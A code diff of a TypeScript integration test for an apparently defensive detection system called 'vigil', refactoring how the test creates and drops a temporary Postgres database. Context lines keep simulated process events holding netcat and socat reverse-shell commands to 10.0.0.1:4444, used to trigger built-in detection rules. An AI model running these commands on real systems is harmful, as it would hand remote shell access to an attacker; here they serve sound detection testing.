@@ -15,7 +15,6 @@ import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import pg from 'pg';
 import { SimulatedAgent } from '../../src/agent/simulator.ts';
 import { JetStreamBus } from '../../src/bus/jetstream.ts';
 import { alertId } from '../../src/detect/alerts.ts';
@@ -26,14 +25,14 @@ import { loadOrCreateCa } from '../../src/pki/pki.ts';
 import { issueEnrollmentToken } from '../../src/server/enrollment-tokens.ts';
 import { openPostgresIdentityStore } from '../../src/stores/identity/postgres.ts';
 import { PostgresMetadataStore } from '../../src/stores/metadata/postgres.ts';
+import { createTempDatabase, type TempDatabase } from '../support/postgres.ts';
 import { spawnClickHouseFixture } from '../fixtures/clickhouse-http-server.ts';
 import { freePort, spawnRole, stopProcess, type RoleProcess } from '../fixtures/vigil-roles.ts';
 import { until } from '../response/helpers.ts';
 
 const NATS = 'nats://127.0.0.1:4222';
-const PG_ADMIN = { host: '127.0.0.1', port: 5432, user: 'postgres', database: 'postgres' };
 const namespace = `sha${randomBytes(4).toString('hex')}`;
-const database = `vigil_test_shared_${randomBytes(6).toString('hex')}`;
+let db: TempDatabase;
 const NETCAT = { executable: '/usr/bin/nc', args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] };
 const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001'; // rules/builtin/lnx_netcat_reverse_shell.yml
 const SOCAT = { executable: '/usr/bin/socat', args: ['socat', 'tcp:10.0.0.1:4444', 'exec:/bin/sh'] };
@@ -47,19 +46,13 @@ detection:
   condition: sel
 `;
 
-async function pgAdmin(sql: string): Promise<void> {
-  const c = new pg.Client(PG_ADMIN);
-  await c.connect();
-  try { await c.query(sql); } finally { await c.end(); }
-}
-
 let dir: string;
 let clickhouse: Awaited<ReturnType<typeof spawnClickHouseFixture>>;
 const running: RoleProcess[] = [];
 
 before(async () => {
   dir = mkdtempSync(join(tmpdir(), 'vigil-shared-api-'));
-  await pgAdmin(`CREATE DATABASE ${database}`);
+  db = await createTempDatabase('shared');
   clickhouse = await spawnClickHouseFixture(join(dir, 'clickhouse'));
   mkdirSync(join(dir, 'pki'), { mode: 0o700 });
 });
@@ -68,7 +61,7 @@ after(async () => {
   for (const p of running) await stopProcess(p.child, 'SIGKILL');
   await clickhouse?.stop();
   await JetStreamBus.deleteStreams(NATS, namespace);
-  await pgAdmin(`DROP DATABASE IF EXISTS ${database} WITH (FORCE)`);
+  await db?.drop();
   rmSync(dir, { recursive: true, force: true });
 });
 
@@ -117,7 +110,7 @@ async function alertStream(http: string, key: string): Promise<{ ids: string[]; 
 async function role(args: string[]): Promise<RoleProcess> {
   const p = await spawnRole(args, {
     ...process.env, VIGIL_NATS_URL: NATS, VIGIL_BUS_NAMESPACE: namespace, VIGIL_CLICKHOUSE_URL: clickhouse.url,
-    VIGIL_POSTGRES_URL: `postgres://postgres@127.0.0.1:5432/${database}`, VIGIL_PKI_DIR: join(dir, 'pki'),
+    VIGIL_POSTGRES_URL: db.url, VIGIL_PKI_DIR: join(dir, 'pki'),
     VIGIL_HEALTH: '127.0.0.1:0', VIGIL_LOG_LEVEL: 'warn', VIGIL_ALLOW_PRIVATE_ALERT_SINKS: '1',
   });
   running.push(p);
@@ -135,7 +128,7 @@ test('shared API state across processes: rule changes, the live alert stream, we
   const server = await role(['server', '--grpc', grpc, '--http', '127.0.0.1:0']);
   const api = await role(['api', '--http', '127.0.0.1:0']);
 
-  const pgUrl = `postgres://postgres@127.0.0.1:5432/${database}`;
+  const pgUrl = db.url;
   const identity = await openPostgresIdentityStore({ connectionString: pgUrl });
   const { key } = await new ApiKeys({ store: identity }).create({ tenantId: 'default', name: 'shared', role: 'admin', createdBy: 'test' });
   await identity.close();
